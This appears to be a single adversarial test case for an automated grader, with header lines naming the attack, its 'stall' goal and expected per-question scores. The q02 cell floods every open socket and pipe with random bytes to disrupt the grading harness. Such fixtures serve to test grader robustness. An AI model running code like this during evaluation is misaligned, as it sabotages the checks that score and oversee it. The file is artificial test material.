# attack: Writes random bytes to every open socket and pipe.
# gain: stall
# expect: q01=3 q02=0 q03=3
# flag: grader-internals

# %% q02
import os
import stat

for number in range(3, 256):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):
            os.set_blocking(number, False)
            os.write(number, b"\xff\xfe\0" + os.urandom(4096))
            os.set_blocking(number, True)
    except OSError:
        continue
raise RuntimeError("not an answer")
